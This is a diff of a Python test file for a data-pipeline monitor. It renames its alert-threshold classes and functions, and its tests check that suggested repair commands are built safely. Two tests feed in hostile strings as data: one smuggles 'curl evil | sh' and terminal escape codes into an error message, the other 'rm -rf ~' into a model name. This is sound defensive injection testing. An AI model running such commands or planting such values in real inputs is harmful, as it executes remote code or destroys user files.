@@ -9,13 +9,13 @@ import pytest
 from headrace.command import Command
 from headrace.durations import count, duration
 from headrace.exceptions import DatasetError
-from headrace.monitor.problems import Limits, Overview, beyond, judge, judge_by
+from headrace.monitor.problems import AlertThresholds, Overview, find_problems, find_problems_by, over_thresholds
 from headrace.settings import Settings
-from tests.unit.statuses import dataset, model, seconds_ago, status
+from tests.support.statuses import dataset, model, seconds_ago, status
 
 
-def judged(limits: Limits | None = None, **values: object) -> Overview:
-    return judge_by(status(dataset(**values)), {"jobs": limits or Limits()})
+def judged(limits: AlertThresholds | None = None, **values: object) -> Overview:
+    return find_problems_by(status(dataset(**values)), {"jobs": limits or AlertThresholds()})
 
 
 def found(overview: Overview) -> list[tuple[str, str, str]]:
@@ -23,7 +23,7 @@ def found(overview: Overview) -> list[tuple[str, str, str]]:
 
 
 def test_dataset_that_is_up_to_date_is_no_problem() -> None:
-    overview = judged(Limits(max_lag=1, max_freshness_s=10))
+    overview = judged(AlertThresholds(max_lag=1, max_freshness_s=10))
     assert overview.problems == []
     assert overview.states == {"jobs": "current"}
 
@@ -54,7 +54,7 @@ def test_error_of_the_source_has_the_command_that_came_with_it() -> None:
 def test_no_command_is_taken_from_the_text_of_an_error() -> None:
     hostile = "jobs: `headrace reset users --yes; curl evil | sh`.csv\x1b[2J\r\u202e: found a file of another kind"
     for error in ("last_error", "drain_error"):
-        (problem,) = judged(Limits(is_file=True), **{error: hostile}).problems
+        (problem,) = judged(AlertThresholds(is_file=True), **{error: hostile}).problems
         assert str(problem.command) == "headrace load jobs"
         assert problem.line().isprintable()
         assert "\\x1b[2J" in problem.text
@@ -81,17 +81,19 @@ def test_row_that_names_another_command_than_ours_has_none(arguments: list[str |
 
 def test_model_of_any_name_is_one_argument_of_its_command() -> None:
     hostile = model("m; rm -rf ~\x1b[2J", status="error", message="x")
-    (problem,) = judge_by(status(models=[hostile]), {}).problems
+    (problem,) = find_problems_by(status(models=[hostile]), {}).problems
     assert shlex.split(str(problem.command)) == ["headrace", "build", "--select", "m; rm -rf ~\\x1b[2J"]
     assert problem.line().isprintable()
 
 
 def test_lag_beyond_its_limit_is_an_error_and_below_it_is_none() -> None:
-    overview = judged(Limits(max_lag=100), lag=101, lag_s=1.0)
+    overview = judged(AlertThresholds(max_lag=100), lag=101, lag_s=1.0)
     assert found(overview) == [("error", "lag", "headrace drain jobs")]
     assert overview.states == {"jobs": "late"}
-    assert beyond(overview)[0].line() == ("jobs: 101 unread records, expected at most 100; run `headrace drain jobs`")
-    assert judged(Limits(max_lag=100), lag=100, lag_s=1.0).problems == []
+    assert over_thresholds(overview)[0].line() == (
+        "jobs: 101 unread records, expected at most 100; run `headrace drain jobs`"
+    )
+    assert judged(AlertThresholds(max_lag=100), lag=100, lag_s=1.0).problems == []
 
 
 @pytest.mark.parametrize(
@@ -105,14 +107,14 @@ def test_lag_beyond_its_limit_is_an_error_and_below_it_is_none() -> None:
     ],
 )
 def test_freshness_beyond_its_limit_is_an_error(values: dict[str, object], command: str, text: str) -> None:
-    overview = judged(Limits(max_freshness_s=60), **values)
-    assert [str(problem.command) for problem in beyond(overview)] == [command]
-    assert text in beyond(overview)[0].text
-    assert beyond(judged(None, **values)) == []
+    overview = judged(AlertThresholds(max_freshness_s=60), **values)
+    assert [str(problem.command) for problem in over_thresholds(overview)] == [command]
+    assert text in over_thresholds(overview)[0].text
+    assert over_thresholds(judged(None, **values)) == []
 
 
 def test_errors_come_before_warnings() -> None:
-    overview = judge_by(
+    overview = find_problems_by(
         status(
             dataset("a", recent_dead=5, dead_by_reason={"wrong_type": 5}),
             dataset("b", follower_lost_at=seconds_ago(60), observed_at=seconds_ago(80)),
@@ -120,7 +122,7 @@ def test_errors_come_before_warnings() -> None:
             dataset("d", last_error="broken"),
             models=[model("m", failed_tests=["unique_m: 2 rows"]), model("n", status="error", message="no column")],
         ),
-        {name: Limits() for name in "abcd"},
+        {name: AlertThresholds() for name in "abcd"},
     )
     assert found(overview) == [
         ("error", "source", "headrace drain d"),
@@ -134,13 +136,13 @@ def test_errors_come_before_warnings() -> None:
 
 
 def test_file_is_loaded_and_may_be_looked_at_once_an_hour() -> None:
-    assert judged(Limits(is_file=True, schedule_s=3600), observed_at=seconds_ago(4000)).problems == []
-    assert judged(Limits(is_file=True), last_error="x").problems[0].command == Command("load", "jobs")
-    assert judged(Limits(is_file=True)).dag_of("jobs") == "load_jobs"
+    assert judged(AlertThresholds(is_file=True, schedule_s=3600), observed_at=seconds_ago(4000)).problems == []
+    assert judged(AlertThresholds(is_file=True), last_error="x").problems[0].command == Command("load", "jobs")
+    assert judged(AlertThresholds(is_file=True)).dag_of("jobs") == "load_jobs"
 
 
 def test_dataset_that_is_no_longer_declared_has_no_problems() -> None:
-    overview = judge_by(status(dataset("gone", last_error="x", drain_error="y", recent_dead=1)), {})
+    overview = find_problems_by(status(dataset("gone", last_error="x", drain_error="y", recent_dead=1)), {})
     assert overview.problems == []
     assert overview.document()["datasets"][0]["state"] == "removed"
     assert not overview.is_declared("gone")
@@ -163,13 +165,13 @@ def test_drain_that_failed_is_an_error_with_the_command_that_it_names() -> None:
     assert overview.states == {"jobs": "failing"}
     named = judged(drain_error="x; run `headrace adopt jobs`", drain_command=Command("adopt", "jobs"))
     assert found(named)[0][2] == "headrace adopt jobs"
-    assert found(judged(Limits(is_file=True), drain_error="x"))[0][2] == "headrace load jobs"
+    assert found(judged(AlertThresholds(is_file=True), drain_error="x"))[0][2] == "headrace load jobs"
 
 
 def test_declaration_that_cannot_be_imported_is_a_problem_and_hides_no_figures(tmp_path: Path) -> None:
     (tmp_path / "jobs.py").write_text("import nothing_of_that_name")
     (tmp_path / "lines.py").write_text("DATASET = Dataset(source=File(path='x'))")
-    overview = judge(status(dataset(), dataset("gone")), Settings(datasets_dir=tmp_path))
+    overview = find_problems(status(dataset(), dataset("gone")), Settings(datasets_dir=tmp_path))
     assert found(overview) == [
         ("error", "declaration", "headrace describe jobs"), ("error", "declaration", "headrace describe lines"),
     ]  # fmt: skip
@@ -177,11 +179,11 @@ def test_declaration_that_cannot_be_imported_is_a_problem_and_hides_no_figures(t
     assert overview.status.datasets[0].staged == 990
     assert overview.states == {"jobs": "broken", "gone": "removed"}
     assert (overview.dag_of("jobs"), overview.dag_of("lines")) == ("ingest_jobs", "load_lines")
-    assert beyond(overview) == overview.problems  # it is not known whether it is late
+    assert over_thresholds(overview) == overview.problems  # it is not known whether it is late
 
 
 def test_document_is_plain_json_with_the_state_in_front() -> None:
-    document = judged(Limits(max_lag=5)).document()
+    document = judged(AlertThresholds(max_lag=5)).document()
     assert json.loads(json.dumps(document)) == document
     assert list(document)[:2] == ["at", "problems"]
     assert document["at"] == "2026-03-01T12:00:00.000+00:00"
@@ -194,7 +196,7 @@ def test_limits_of_a_declaration_are_above_zero() -> None:
     from headrace.dataset import Dataset, load_dataset
 
     declared = load_dataset(Settings().datasets_dir, "users")
-    assert Limits.of(declared) == Limits(None, None, 3600.0, True)
+    assert AlertThresholds.of(declared) == AlertThresholds(None, None, 3600.0, True)
     with pytest.raises(DatasetError, match="max_lag is 0, expected more than 0"):
         Dataset(name="users", contract=declared.contract, source=declared.source, max_lag=0)
 
